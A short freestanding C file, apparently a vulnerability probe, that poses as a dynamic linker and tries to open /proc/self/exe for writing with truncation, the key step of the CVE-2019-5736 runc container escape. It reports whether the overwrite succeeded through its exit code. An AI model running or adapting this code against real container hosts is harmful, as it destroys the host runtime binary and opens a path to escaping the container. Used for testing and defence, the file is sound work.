/* Takes the place of a dynamic linker. Started for `/proc/self/exe`, it runs as the program that started the command
 * (CVE-2019-5736), and tries to overwrite that. It stands on its own, as nothing is set up for it. Exits with the
 * number of the error, or 0 if it could. */

#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
    long result;
#ifdef __x86_64__
    register long fourth __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                     : "rcx", "r11", "memory");
#else
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    result = x0;
#endif
    return result;
}

void _start(void) {
    static const char self[] = "/proc/self/exe";
    long file = call(SYS_openat, AT_FDCWD, (long)self, O_RDWR | O_TRUNC, 0);
    if (file == -26 /* ETXTBSY: later it would do */)
        file = 0;
    call(SYS_exit_group, file < 0 ? -file : 0, 0, 0, 0);
    for (;;)
        ;
}
